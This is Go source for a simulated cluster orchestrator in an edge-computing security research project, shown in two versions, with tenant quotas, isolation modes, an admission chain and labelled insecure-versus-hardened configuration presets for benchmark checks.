// WorkloadSpec describes a deployment request.
type WorkloadSpec struct {
	Name      string        `json:"name"`
	Tenant    string        `json:"tenant"`
	ImageRef  string        `json:"imageRef"`
	Isolation IsolationMode `json:"isolation"`
	Resources Resources     `json:"resources"`
}

// Workload is a running deployment.
type Workload struct {
	Spec  WorkloadSpec     `json:"spec"`
	Image *container.Image `json:"-"`
	Node  string           `json:"node"`
	VMID  string           `json:"vmId"`
	// PlacedAtMs is the cluster-clock timestamp of the placement. Zero
	// unless a clock is installed with SetClock (simulation, tracing).
	PlacedAtMs int64 `json:"placedAtMs,omitempty"`
}

// VM is a virtual machine on a node.
type VM struct {
	ID     string `json:"id"`
	Node   string `json:"node"`
	Tenant string `json:"tenant"`
	// Dedicated is true for hard-isolation VMs (one workload).
	Dedicated bool     `json:"dedicated"`
	Workloads []string `json:"workloads"`
}

// node is internal node state. The cluster lock guards membership in the
// node map; mu guards the placement state (used, vms) so placements on
// different nodes do not serialize.
type node struct {
	name     string
	capacity Resources

	mu   sync.Mutex
	used Resources
	vms  map[string]*VM
}

// Settings are cluster-level configuration flags — the knobs the M11
// hardening guides (NSA, CIS) check. Defaults model the insecure
// out-of-the-box posture of T5.
type Settings struct {
	AnonymousAuth       bool `json:"anonymousAuth"`
	RBACEnabled         bool `json:"rbacEnabled"`
	AuditLoggingEnabled bool `json:"auditLoggingEnabled"`
	EtcdEncryption      bool `json:"etcdEncryption"`
	TLSOnAPIServer      bool `json:"tlsOnApiServer"`
	AllowPrivileged     bool `json:"allowPrivileged"`
	NetworkPoliciesOn   bool `json:"networkPoliciesOn"`
}

// InsecureDefaults returns the configuration middleware ships with before
// hardening (usability over security, per the paper's T5 discussion).
func InsecureDefaults() Settings {
	return Settings{
		AnonymousAuth:   true,
		AllowPrivileged: true,
		TLSOnAPIServer:  false,
	}
}

// HardenedSettings returns the posture after applying the NSA/CIS guides.
func HardenedSettings() Settings {
	return Settings{
		RBACEnabled:         true,
		AuditLoggingEnabled: true,
		EtcdEncryption:      true,
		TLSOnAPIServer:      true,
		NetworkPoliciesOn:   true,
	}
}

// AdmissionFunc inspects a deployment before scheduling; returning an error
// rejects it. The security pipeline (signature check, SCA, malware scan,
// capability policy) registers here.
type AdmissionFunc func(spec WorkloadSpec, img *container.Image) error

// AuditEvent records one control-plane decision — the per-tenant audit
// trail the M11 hardening guides require. The platform forwards these
// onto its event spine (audit topic); standalone clusters may install
// any sink.
type AuditEvent struct {
	// Kind is the decision class: admission-verdict | placement |
	// failover | eviction | node-join | node-fail | workload-stop.
	Kind     string `json:"kind"`
	Workload string `json:"workload,omitempty"`
	Tenant   string `json:"tenant,omitempty"`
	Node     string `json:"node,omitempty"`
	// Allowed reports the decision outcome (admitted/placed/rescheduled
	// vs rejected/evicted).
	Allowed bool   `json:"allowed"`
	Detail  string `json:"detail,omitempty"`
	// AtMs is the cluster-clock time (zero without a clock).
	AtMs int64 `json:"atMs,omitempty"`
}

// AuditSink receives control-plane audit events. Sinks are called
// outside cluster locks (calling back into the cluster is safe) but on
// the operation's goroutine, so they should return quickly.
type AuditSink func(AuditEvent)

// Errors returned by cluster operations.
var (
	ErrNoCapacity    = errors.New("orchestrator: no node with free capacity")
	ErrDenied        = errors.New("orchestrator: admission denied")
	ErrQuotaExceeded = errors.New("orchestrator: tenant quota exceeded")
	ErrUnauthorized  = errors.New("orchestrator: rbac denied")
	ErrNotFound      = errors.New("orchestrator: workload not found")
	ErrDuplicateName = errors.New("orchestrator: workload name in use")
)

// Cluster is the GENIO orchestration domain. Safe for concurrent use.
type Cluster struct {
	Name     string
	Settings Settings
	Registry *container.Registry
	// RBAC guards control-plane operations when Settings.RBACEnabled.
	RBAC *rbac.Engine
	// VerifyImageSignatures requires signed images from trusted
	// publishers at pull time.
	VerifyImageSignatures bool
	// AdmissionParallelism bounds the worker pool that fans the admission
	// chain out per deployment: 0 sizes the pool to GOMAXPROCS, 1 forces
	// the sequential path. The verdict is identical at any setting.
	AdmissionParallelism int
	// AdmissionCacheDisabled turns off the per-image-digest verdict cache
	// for controllers registered via RegisterAdmissionCached (used by
	// benchmarks to measure the cold scanner path).
	AdmissionCacheDisabled bool

	mu         sync.RWMutex
	nodes      map[string]*node
	workloads  map[string]*Workload
	pending    map[string]struct{} // names reserved by in-flight deploys
	quotas     map[string]Resources
	tenantUsed map[string]Resources

	admMu     sync.RWMutex
	admission []namedAdmission
	admCache  sync.Map // "controller\x00imageDigest" -> struct{} (clean verdicts only)

	// clock, when set, timestamps placements and failovers. Injected by
	// simulations (a deterministic virtual clock) and left nil in
	// production, where timestamps stay zero and JSON output is unchanged.
	clock atomic.Pointer[func() int64]

	// audit, when set, receives a record per control-plane decision.
	audit atomic.Pointer[AuditSink]

	vmSeq    atomic.Int64
	admitted atomic.Int64
	rejected atomic.Int64
}

type namedAdmission struct {
	name string
	fn   AdmissionCheck
	// cacheable marks controllers whose verdict depends only on the image
	// content, letting clean verdicts be cached by digest.
	cacheable bool
}

// NewCluster creates a cluster backed by the given registry.
func NewCluster(name string, reg *container.Registry, settings Settings) *Cluster {
	return &Cluster{
		Name:       name,
		Settings:   settings,
		Registry:   reg,
		nodes:      make(map[string]*node),
		workloads:  make(map[string]*Workload),
		pending:    make(map[string]struct{}),
		quotas:     make(map[string]Resources),
		tenantUsed: make(map[string]Resources),
	}
}

// SetClock installs a millisecond time source used to stamp placements
// (Workload.PlacedAtMs) and failovers (FailoverResult.AtMs). Simulations
// inject a virtual clock here so runs are replayable; without a clock the
// stamps stay zero.
func (c *Cluster) SetClock(now func() int64) {
	c.clock.Store(&now)
}

// nowMs returns the cluster-clock time, or 0 when no clock is installed.
func (c *Cluster) nowMs() int64 {
	if f := c.clock.Load(); f != nil {
		return (*f)()
	}
	return 0
}

// SetAuditSink installs the control-plane audit sink (nil disables).
// Sinks see every admission verdict, placement, failover, eviction, and
// node membership change; they are invoked outside cluster locks.
func (c *Cluster) SetAuditSink(fn AuditSink) {
	if fn == nil {
		c.audit.Store(nil)
		return
	}
	c.audit.Store(&fn)
}

// auditEvent stamps and forwards one audit record; a no-op without a
// sink. Never call while holding c.mu or a node lock: a sink may block
// on telemetry backpressure or call back into read-side queries.
func (c *Cluster) auditEvent(a AuditEvent) {
	if fn := c.audit.Load(); fn != nil {
		if a.AtMs == 0 {
			a.AtMs = c.nowMs()
		}
		(*fn)(a)
	}
}

// AddNode registers a node with the given capacity.
func (c *Cluster) AddNode(name string, capacity Resources) {
	c.mu.Lock()
	c.nodes[name] = &node{name: name, capacity: capacity, vms: make(map[string]*VM)}
	c.mu.Unlock()
	c.auditEvent(AuditEvent{Kind: "node-join", Node: name, Allowed: true,
		Detail: fmt.Sprintf("capacity cpu=%dm mem=%dMB", capacity.CPUMilli, capacity.MemoryMB)})
}

// SetQuota sets a tenant's resource quota (zero value = unlimited).
func (c *Cluster) SetQuota(tenant string, q Resources) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.quotas[tenant] = q
}

// EnsureQuota sets a tenant's quota only if none is set yet, so concurrent
// deploys applying a default quota cannot clobber an explicit one.
func (c *Cluster) EnsureQuota(tenant string, q Resources) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if _, ok := c.quotas[tenant]; !ok {
		c.quotas[tenant] = q
	}
}

// DeployStage names a phase of the deploy pipeline, reported to the
// observer of DeployObserved as the deployment crosses into it. The
// values double as the lifecycle-state vocabulary the platform publishes
// on its deploy.lifecycle topic.
type DeployStage string

// Pipeline stages, in order.
const (
	// StageScanning covers image pull plus the admission fan-out.
	StageScanning DeployStage = "scanning"
	// StagePlacing covers name/quota reservation, scheduling, and commit.
	StagePlacing DeployStage = "placing"
)

// Deploy schedules a workload on behalf of subject — the context-free
// compatibility wrapper over DeployContext.
func (c *Cluster) Deploy(subject string, spec WorkloadSpec) (*Workload, error) {
	return c.DeployContext(context.Background(), subject, spec)
}

// DeployContext schedules a workload on behalf of subject. The pipeline
// is: RBAC check (when enabled) -> image pull (verified per policy) ->
// admission fan-out -> name/quota reservation -> scheduling -> commit.
//
// Only the reservation and commit steps take the cluster write lock; the
// expensive stages (pull, scanners) run without it, and scheduling holds
// the read lock plus one node lock at a time. Every verdict — and the
// placement, on success — is reported to the audit sink.
//
// Rejections are typed (*AdmissionError, *ImagePullError, *QuotaError,
// *CapacityError, *UnauthorizedError, *DuplicateNameError), all matching
// the ErrRejected umbrella and their historical sentinels.
//
// Cancelling ctx (or passing one past its deadline) aborts the pipeline
// between stages and inside the admission fan-out without placing the
// workload or leaking pool goroutines; the result is a *CancelledError
// and an admission-cancelled audit record. Cancellation that loses the
// race with commit is a no-op: the workload is simply placed.
func (c *Cluster) DeployContext(ctx context.Context, subject string, spec WorkloadSpec) (*Workload, error) {
	w, _, err := c.DeployObserved(ctx, subject, spec, nil)
	return w, err
}

// DeployObserved is DeployContext with a stage observer: observe (when
// non-nil) is called on the deploying goroutine as the pipeline enters
// each DeployStage. The platform's asynchronous deploy futures use it to
// publish lifecycle transitions; synchronous callers pass nil.
//
// On success the returned Placement is the commit-time snapshot of where
// the workload landed. Callers that report the placement (audit,
// lifecycle events) must read it from there, never from the returned
// *Workload: a concurrent failover may rewrite the live struct the
// moment the commit lock is released.
func (c *Cluster) DeployObserved(ctx context.Context, subject string, spec WorkloadSpec, observe func(DeployStage)) (*Workload, Placement, error) {
	w, placed, err := c.deploy(ctx, subject, spec, observe)
	if err != nil {
		if errors.Is(err, ErrCancelled) {
			c.auditEvent(AuditEvent{Kind: "admission-cancelled", Workload: spec.Name,
				Tenant: spec.Tenant, Detail: err.Error()})
		} else {
			c.auditEvent(AuditEvent{Kind: "admission-verdict", Workload: spec.Name,
				Tenant: spec.Tenant, Detail: err.Error()})
		}
		return nil, Placement{}, err
	}
	c.auditEvent(AuditEvent{Kind: "admission-verdict", Workload: spec.Name,
		Tenant: spec.Tenant, Node: placed.Node, Allowed: true})
	c.auditEvent(AuditEvent{Kind: "placement", Workload: spec.Name,
		Tenant: spec.Tenant, Node: placed.Node, Allowed: true, Detail: "vm " + placed.VMID})
	return w, placed, nil
}

// Placement is the value snapshot of a committed placement, taken under
// the commit lock so it can be read after deploy() without touching the
// live *Workload (which a concurrent failover may rewrite in place).
type Placement struct {
	Node, VMID string
}

// deploy is DeployObserved's body, audit emission excluded. Cancellation
// is honoured between stages and inside the admission fan-out; once the
// commit lock is taken with a live context the placement completes.
func (c *Cluster) deploy(ctx context.Context, subject string, spec WorkloadSpec, observe func(DeployStage)) (*Workload, Placement, error) {
	if c.Settings.RBACEnabled && c.RBAC != nil {
		d := c.RBAC.Check(subject, rbac.Permission{Verb: "create", Resource: "workloads", Namespace: spec.Tenant})
		if !d.Allowed {
			c.rejected.Add(1)
			return nil, Placement{}, &UnauthorizedError{Subject: subject, Verb: "create", Tenant: spec.Tenant}
		}
	}
	if err := ctxErr(ctx, spec.Name, string(StageScanning)); err != nil {
		return nil, Placement{}, err
	}
	if observe != nil {
		observe(StageScanning)
	}

	var img *container.Image
	var err error
	if c.VerifyImageSignatures {
		img, err = c.Registry.PullVerified(spec.ImageRef)
	} else {
		img, err = c.Registry.Pull(spec.ImageRef)
	}
	if err != nil {
		c.rejected.Add(1)
		return nil, Placement{}, &ImagePullError{Ref: spec.ImageRef, Err: err}
	}

	if err := c.runAdmission(ctx, spec, img); err != nil {
		if !errors.Is(err, ErrCancelled) {
			c.rejected.Add(1)
		}
		return nil, Placement{}, err
	}
	if err := ctxErr(ctx, spec.Name, string(StagePlacing)); err != nil {
		return nil, Placement{}, err
	}
	if observe != nil {
		observe(StagePlacing)
	}

	// Reserve the name and charge the tenant quota up front so concurrent
	// deploys cannot collide on either; both are released on failure.
	c.mu.Lock()
	if _, dup := c.workloads[spec.Name]; dup {
		c.mu.Unlock()
		c.rejected.Add(1)
		return nil, Placement{}, &DuplicateNameError{Workload: spec.Name}
	}
	if _, dup := c.pending[spec.Name]; dup {
		c.mu.Unlock()
		c.rejected.Add(1)
		return nil, Placement{}, &DuplicateNameError{Workload: spec.Name}
	}
	if q, ok := c.quotas[spec.Tenant]; ok && (q.CPUMilli > 0 || q.MemoryMB > 0) {
		used := c.tenantUsed[spec.Tenant]
		if !used.add(spec.Resources).fits(q) {
			c.mu.Unlock()
			c.rejected.Add(1)
			return nil, Placement{}, &QuotaError{Tenant: spec.Tenant,
				Requested: spec.Resources, Used: used, Quota: q}
		}
	}
	c.pending[spec.Name] = struct{}{}
	c.tenantUsed[spec.Tenant] = c.tenantUsed[spec.Tenant].add(spec.Resources)
	c.mu.Unlock()

	w, err := c.schedule(spec, img)

	c.mu.Lock()
	delete(c.pending, spec.Name)
	if err == nil {
		if _, alive := c.nodes[w.Node]; !alive {
			// The chosen node failed between placement and commit; its
			// state object is orphaned, so the reservation just dissolves.
			err = &CapacityError{Workload: spec.Name, Requested: spec.Resources, Nodes: len(c.nodes)}
		}
	}
	if err == nil {
		// Last cancellation point: a context done before commit aborts the
		// deployment, releasing both the reservation and the node-side
		// placement schedule just made; after this window closes the
		// workload is placed and cancellation is a no-op.
		if cerr := ctxErr(ctx, spec.Name, string(StagePlacing)); cerr != nil {
			c.releasePlacement(w)
			err = cerr
		}
	}
	if err != nil {
		c.tenantUsed[spec.Tenant] = c.tenantUsed[spec.Tenant].sub(spec.Resources)
		c.mu.Unlock()
		if !errors.Is(err, ErrCancelled) {
			c.rejected.Add(1)
		}
		return nil, Placement{}, err
	}
	c.workloads[spec.Name] = w
	placed := Placement{Node: w.Node, VMID: w.VMID}
	c.mu.Unlock()
	c.admitted.Add(1)
	return w, placed, nil
}

// releasePlacement undoes a successful schedule that will not be
// committed (cancellation in the commit window): node capacity is
// returned and the VM slot vacated. Callers hold c.mu.
func (c *Cluster) releasePlacement(w *Workload) {
	n, ok := c.nodes[w.Node]
	if !ok {
		return // node died; its state object is already orphaned
	}
	n.mu.Lock()
	n.used = n.used.sub(w.Spec.Resources)
	if vm, ok := n.vms[w.VMID]; ok {
		out := vm.Workloads[:0]
		for _, wl := range vm.Workloads {
			if wl != w.Spec.Name {
				out = append(out, wl)
			}
		}
		vm.Workloads = out
		if len(vm.Workloads) == 0 {
			delete(n.vms, w.VMID)
		}
	}
	n.mu.Unlock()
}

// schedule places the workload on the first node with capacity, holding the
// cluster read lock and one node lock at a time.
func (c *Cluster) schedule(spec WorkloadSpec, img *container.Image) (*Workload, error) {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.scheduleAmong(spec, img)
}

// scheduleAmong is schedule's body; callers hold c.mu (read or write).
func (c *Cluster) scheduleAmong(spec WorkloadSpec, img *container.Image) (*Workload, error) {
	names := make([]string, 0, len(c.nodes))
	for n := range c.nodes {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, name := range names {
		n := c.nodes[name]
		n.mu.Lock()
		free := n.capacity.sub(n.used)
		if !spec.Resources.fits(free) {
			n.mu.Unlock()
			continue
		}
		vm := c.placeVM(n, spec)
		vm.Workloads = append(vm.Workloads, spec.Name)
		n.used = n.used.add(spec.Resources)
		n.mu.Unlock()
		return &Workload{Spec: spec, Image: img, Node: name, VMID: vm.ID, PlacedAtMs: c.nowMs()}, nil
	}
	return nil, &CapacityError{Workload: spec.Name, Requested: spec.Resources, Nodes: len(names)}
}

// placeVM finds or creates the VM for a workload per its isolation mode
// (callers hold n.mu).
func (c *Cluster) placeVM(n *node, spec WorkloadSpec) *VM {
	if spec.Isolation != IsolationHard {
		// Soft isolation: reuse the node's shared VM for this tenant.
		for _, vm := range n.vms {
			if !vm.Dedicated && vm.Tenant == spec.Tenant {
				return vm
			}
		}
	}
	vm := &VM{
		ID:        fmt.Sprintf("vm-%03d", c.vmSeq.Add(1)),
		Node:      n.name,
		Tenant:    spec.Tenant,
		Dedicated: spec.Isolation == IsolationHard,
	}
	n.vms[vm.ID] = vm
	return vm
}

// Stop removes a workload, releasing capacity and quota.
func (c *Cluster) Stop(name string) error {
	w, err := c.stop(name)
	if err != nil {
		return err
	}
	c.auditEvent(AuditEvent{Kind: "workload-stop", Workload: name,
		Tenant: w.Spec.Tenant, Node: w.Node, Allowed: true})
	return nil
}

// stop is Stop's body, audit emission excluded.
func (c *Cluster) stop(name string) (*Workload, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	w, ok := c.workloads[name]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNotFound, name)
	}
	delete(c.workloads, name)
	c.tenantUsed[w.Spec.Tenant] = c.tenantUsed[w.Spec.Tenant].sub(w.Spec.Resources)
	if n, ok := c.nodes[w.Node]; ok {
		n.mu.Lock()
		n.used = n.used.sub(w.Spec.Resources)
		if vm, ok := n.vms[w.VMID]; ok {
			out := vm.Workloads[:0]
			for _, wl := range vm.Workloads {
				if wl != name {
					out = append(out, wl)
				}
			}
			vm.Workloads = out
			if len(vm.Workloads) == 0 {
				delete(n.vms, w.VMID)
			}
		}
		n.mu.Unlock()
	}
	return w, nil
}

// Workload returns a running workload by name.
func (c *Cluster) Workload(name string) (*Workload, bool) {
	c.mu.RLock()
	defer c.mu.RUnlock()
	w, ok := c.workloads[name]
	return w, ok
}

// Workloads returns all running workloads sorted by name.
func (c *Cluster) Workloads() []*Workload {
	c.mu.RLock()
	defer c.mu.RUnlock()
	out := make([]*Workload, 0, len(c.workloads))
	for _, w := range c.workloads {
		out = append(out, w)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Spec.Name < out[j].Spec.Name })
	return out
}

// VMs returns all VMs sorted by ID.
func (c *Cluster) VMs() []*VM {
	c.mu.RLock()
	defer c.mu.RUnlock()
	var out []*VM
	for _, n := range c.nodes {
		n.mu.Lock()
		for _, vm := range n.vms {
			out = append(out, vm)
		}
		n.mu.Unlock()
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// TenantUsage returns a tenant's current resource consumption, including
// reservations held by in-flight deploys.
func (c *Cluster) TenantUsage(tenant string) Resources {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.tenantUsed[tenant]
}

// Counters reports admitted/rejected deployment totals.
func (c *Cluster) Counters() (admitted, rejected int) {
	return int(c.admitted.Load()), int(c.rejected.Load())
}

// SharedVMTenants returns, per VM, the set of workload-owning tenants —
// used by the PEACH-style isolation review: a non-dedicated VM hosting
// multiple tenants is an isolation risk.
func (c *Cluster) SharedVMTenants() map[string][]string {
	c.mu.RLock()
	defer c.mu.RUnlock()
	out := make(map[string][]string)
	for _, n := range c.nodes {
		n.mu.Lock()
		for _, vm := range n.vms {
			seen := map[string]bool{}
			var tenants []string
			for _, wl := range vm.Workloads {
				if w, ok := c.workloads[wl]; ok && !seen[w.Spec.Tenant] {
					seen[w.Spec.Tenant] = true
					tenants = append(tenants, w.Spec.Tenant)
				}
			}
			sort.Strings(tenants)
			out[vm.ID] = tenants
		}
		n.mu.Unlock()
	}
	return out
}
