// Package orchestrator models GENIO's workload-management middleware: a
// Kubernetes/Proxmox-style cluster of nodes running virtual machines, with
// edge applications deployed either in hard isolation (a dedicated VM per
// workload) or soft isolation (containers sharing a per-node tenant VM),
// exactly the two postures the paper describes.
//
// The cluster exposes the two control surfaces the security work attaches
// to: an admission chain, where image-signature checks and the M13/M16
// scanners gate deployments, and cluster settings whose insecure defaults
// the M11 benchmark profiles flag. Tenant resource quotas counter the T8
// resource-abuse vector.
package orchestrator

import (
	"errors"
	"fmt"
	"sort"
	"sync"

	"genio/internal/container"
	"genio/internal/rbac"
)

// IsolationMode selects how a workload is isolated from co-tenants.
type IsolationMode int

// Isolation modes.
const (
	// IsolationSoft runs the workload as a container inside a shared
	// per-node VM (network namespaces separate tenants).
	IsolationSoft IsolationMode = iota + 1
	// IsolationHard gives the workload a dedicated virtual machine.
	IsolationHard
)

// String names the mode.
func (m IsolationMode) String() string {
	switch m {
	case IsolationSoft:
		return "soft"
	case IsolationHard:
		return "hard"
	default:
		return fmt.Sprintf("isolation(%d)", int(m))
	}
}

// Resources is a CPU/memory demand or capacity.
type Resources struct {
	CPUMilli int `json:"cpuMilli"`
	MemoryMB int `json:"memoryMB"`
}

// fits reports whether r fits into free.
func (r Resources) fits(free Resources) bool {
	return r.CPUMilli <= free.CPUMilli && r.MemoryMB <= free.MemoryMB
}

func (r Resources) add(o Resources) Resources {
	return Resources{CPUMilli: r.CPUMilli + o.CPUMilli, MemoryMB: r.MemoryMB + o.MemoryMB}
}

func (r Resources) sub(o Resources) Resources {
	return Resources{CPUMilli: r.CPUMilli - o.CPUMilli, MemoryMB: r.MemoryMB - o.MemoryMB}
}

// WorkloadSpec describes a deployment request.
type WorkloadSpec struct {
	Name      string        `json:"name"`
	Tenant    string        `json:"tenant"`
	ImageRef  string        `json:"imageRef"`
	Isolation IsolationMode `json:"isolation"`
	Resources Resources     `json:"resources"`
}

// Workload is a running deployment.
type Workload struct {
	Spec  WorkloadSpec     `json:"spec"`
	Image *container.Image `json:"-"`
	Node  string           `json:"node"`
	VMID  string           `json:"vmId"`
}

// VM is a virtual machine on a node.
type VM struct {
	ID     string `json:"id"`
	Node   string `json:"node"`
	Tenant string `json:"tenant"`
	// Dedicated is true for hard-isolation VMs (one workload).
	Dedicated bool     `json:"dedicated"`
	Workloads []string `json:"workloads"`
}

// node is internal node state.
type node struct {
	name     string
	capacity Resources
	used     Resources
	vms      map[string]*VM
}

// Settings are cluster-level configuration flags — the knobs the M11
// hardening guides (NSA, CIS) check. Defaults model the insecure
// out-of-the-box posture of T5.
type Settings struct {
	AnonymousAuth       bool `json:"anonymousAuth"`
	RBACEnabled         bool `json:"rbacEnabled"`
	AuditLoggingEnabled bool `json:"auditLoggingEnabled"`
	EtcdEncryption      bool `json:"etcdEncryption"`
	TLSOnAPIServer      bool `json:"tlsOnApiServer"`
	AllowPrivileged     bool `json:"allowPrivileged"`
	NetworkPoliciesOn   bool `json:"networkPoliciesOn"`
}

// InsecureDefaults returns the configuration middleware ships with before
// hardening (usability over security, per the paper's T5 discussion).
func InsecureDefaults() Settings {
	return Settings{
		AnonymousAuth:   true,
		AllowPrivileged: true,
		TLSOnAPIServer:  false,
	}
}

// HardenedSettings returns the posture after applying the NSA/CIS guides.
func HardenedSettings() Settings {
	return Settings{
		RBACEnabled:         true,
		AuditLoggingEnabled: true,
		EtcdEncryption:      true,
		TLSOnAPIServer:      true,
		NetworkPoliciesOn:   true,
	}
}

// AdmissionFunc inspects a deployment before scheduling; returning an error
// rejects it. The security pipeline (signature check, SCA, malware scan,
// capability policy) registers here.
type AdmissionFunc func(spec WorkloadSpec, img *container.Image) error

// Errors returned by cluster operations.
var (
	ErrNoCapacity    = errors.New("orchestrator: no node with free capacity")
	ErrDenied        = errors.New("orchestrator: admission denied")
	ErrQuotaExceeded = errors.New("orchestrator: tenant quota exceeded")
	ErrUnauthorized  = errors.New("orchestrator: rbac denied")
	ErrNotFound      = errors.New("orchestrator: workload not found")
	ErrDuplicateName = errors.New("orchestrator: workload name in use")
)

// Cluster is the GENIO orchestration domain. Safe for concurrent use.
type Cluster struct {
	Name     string
	Settings Settings
	Registry *container.Registry
	// RBAC guards control-plane operations when Settings.RBACEnabled.
	RBAC *rbac.Engine
	// VerifyImageSignatures requires signed images from trusted
	// publishers at pull time.
	VerifyImageSignatures bool

	mu         sync.Mutex
	nodes      map[string]*node
	workloads  map[string]*Workload
	quotas     map[string]Resources // tenant -> quota (zero = unlimited)
	tenantUsed map[string]Resources
	admission  []namedAdmission
	vmSeq      int
	// counters for experiments
	admitted int
	rejected int
}

type namedAdmission struct {
	name string
	fn   AdmissionFunc
}

// NewCluster creates a cluster backed by the given registry.
func NewCluster(name string, reg *container.Registry, settings Settings) *Cluster {
	return &Cluster{
		Name:       name,
		Settings:   settings,
		Registry:   reg,
		nodes:      make(map[string]*node),
		workloads:  make(map[string]*Workload),
		quotas:     make(map[string]Resources),
		tenantUsed: make(map[string]Resources),
	}
}

// AddNode registers a node with the given capacity.
func (c *Cluster) AddNode(name string, capacity Resources) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.nodes[name] = &node{name: name, capacity: capacity, vms: make(map[string]*VM)}
}

// SetQuota sets a tenant's resource quota (zero value = unlimited).
func (c *Cluster) SetQuota(tenant string, q Resources) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.quotas[tenant] = q
}

// HasQuota reports whether a quota was set for the tenant.
func (c *Cluster) HasQuota(tenant string) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	_, ok := c.quotas[tenant]
	return ok
}

// RegisterAdmission appends a named admission controller; controllers run
// in registration order and the first error rejects the deployment.
func (c *Cluster) RegisterAdmission(name string, fn AdmissionFunc) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.admission = append(c.admission, namedAdmission{name: name, fn: fn})
}

// Deploy schedules a workload on behalf of subject. The pipeline is:
// RBAC check (when enabled) -> image pull (verified per policy) ->
// admission chain -> quota check -> scheduling.
func (c *Cluster) Deploy(subject string, spec WorkloadSpec) (*Workload, error) {
	if c.Settings.RBACEnabled && c.RBAC != nil {
		d := c.RBAC.Check(subject, rbac.Permission{Verb: "create", Resource: "workloads", Namespace: spec.Tenant})
		if !d.Allowed {
			c.bumpRejected()
			return nil, fmt.Errorf("%w: %s may not create workloads in %s", ErrUnauthorized, subject, spec.Tenant)
		}
	}

	var img *container.Image
	var err error
	if c.VerifyImageSignatures {
		img, err = c.Registry.PullVerified(spec.ImageRef)
	} else {
		img, err = c.Registry.Pull(spec.ImageRef)
	}
	if err != nil {
		c.bumpRejected()
		return nil, fmt.Errorf("pull %s: %w", spec.ImageRef, err)
	}

	c.mu.Lock()
	chain := append([]namedAdmission(nil), c.admission...)
	c.mu.Unlock()
	for _, a := range chain {
		if err := a.fn(spec, img); err != nil {
			c.bumpRejected()
			return nil, fmt.Errorf("%w by %s: %v", ErrDenied, a.name, err)
		}
	}

	c.mu.Lock()
	defer c.mu.Unlock()
	if _, dup := c.workloads[spec.Name]; dup {
		c.rejected++
		return nil, fmt.Errorf("%w: %s", ErrDuplicateName, spec.Name)
	}
	if q, ok := c.quotas[spec.Tenant]; ok && (q.CPUMilli > 0 || q.MemoryMB > 0) {
		next := c.tenantUsed[spec.Tenant].add(spec.Resources)
		if !next.fits(q) {
			c.rejected++
			return nil, fmt.Errorf("%w: tenant %s", ErrQuotaExceeded, spec.Tenant)
		}
	}

	w, err := c.schedule(spec, img)
	if err != nil {
		c.rejected++
		return nil, err
	}
	c.workloads[spec.Name] = w
	c.tenantUsed[spec.Tenant] = c.tenantUsed[spec.Tenant].add(spec.Resources)
	c.admitted++
	return w, nil
}

// schedule places the workload on the first node with capacity (callers
// hold c.mu).
func (c *Cluster) schedule(spec WorkloadSpec, img *container.Image) (*Workload, error) {
	names := make([]string, 0, len(c.nodes))
	for n := range c.nodes {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, name := range names {
		n := c.nodes[name]
		free := n.capacity.sub(n.used)
		if !spec.Resources.fits(free) {
			continue
		}
		vm := c.placeVM(n, spec)
		vm.Workloads = append(vm.Workloads, spec.Name)
		n.used = n.used.add(spec.Resources)
		return &Workload{Spec: spec, Image: img, Node: name, VMID: vm.ID}, nil
	}
	return nil, ErrNoCapacity
}

// placeVM finds or creates the VM for a workload per its isolation mode.
func (c *Cluster) placeVM(n *node, spec WorkloadSpec) *VM {
	if spec.Isolation != IsolationHard {
		// Soft isolation: reuse the node's shared VM for this tenant.
		for _, vm := range n.vms {
			if !vm.Dedicated && vm.Tenant == spec.Tenant {
				return vm
			}
		}
	}
	c.vmSeq++
	vm := &VM{
		ID:        fmt.Sprintf("vm-%03d", c.vmSeq),
		Node:      n.name,
		Tenant:    spec.Tenant,
		Dedicated: spec.Isolation == IsolationHard,
	}
	n.vms[vm.ID] = vm
	return vm
}

// Stop removes a workload, releasing capacity and quota.
func (c *Cluster) Stop(name string) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	w, ok := c.workloads[name]
	if !ok {
		return fmt.Errorf("%w: %s", ErrNotFound, name)
	}
	delete(c.workloads, name)
	c.tenantUsed[w.Spec.Tenant] = c.tenantUsed[w.Spec.Tenant].sub(w.Spec.Resources)
	if n, ok := c.nodes[w.Node]; ok {
		n.used = n.used.sub(w.Spec.Resources)
		if vm, ok := n.vms[w.VMID]; ok {
			out := vm.Workloads[:0]
			for _, wl := range vm.Workloads {
				if wl != name {
					out = append(out, wl)
				}
			}
			vm.Workloads = out
			if len(vm.Workloads) == 0 {
				delete(n.vms, w.VMID)
			}
		}
	}
	return nil
}

// Workload returns a running workload by name.
func (c *Cluster) Workload(name string) (*Workload, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	w, ok := c.workloads[name]
	return w, ok
}

// Workloads returns all running workloads sorted by name.
func (c *Cluster) Workloads() []*Workload {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]*Workload, 0, len(c.workloads))
	for _, w := range c.workloads {
		out = append(out, w)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Spec.Name < out[j].Spec.Name })
	return out
}

// VMs returns all VMs sorted by ID.
func (c *Cluster) VMs() []*VM {
	c.mu.Lock()
	defer c.mu.Unlock()
	var out []*VM
	for _, n := range c.nodes {
		for _, vm := range n.vms {
			out = append(out, vm)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// TenantUsage returns a tenant's current resource consumption.
func (c *Cluster) TenantUsage(tenant string) Resources {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.tenantUsed[tenant]
}

// Counters reports admitted/rejected deployment totals.
func (c *Cluster) Counters() (admitted, rejected int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.admitted, c.rejected
}

func (c *Cluster) bumpRejected() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.rejected++
}

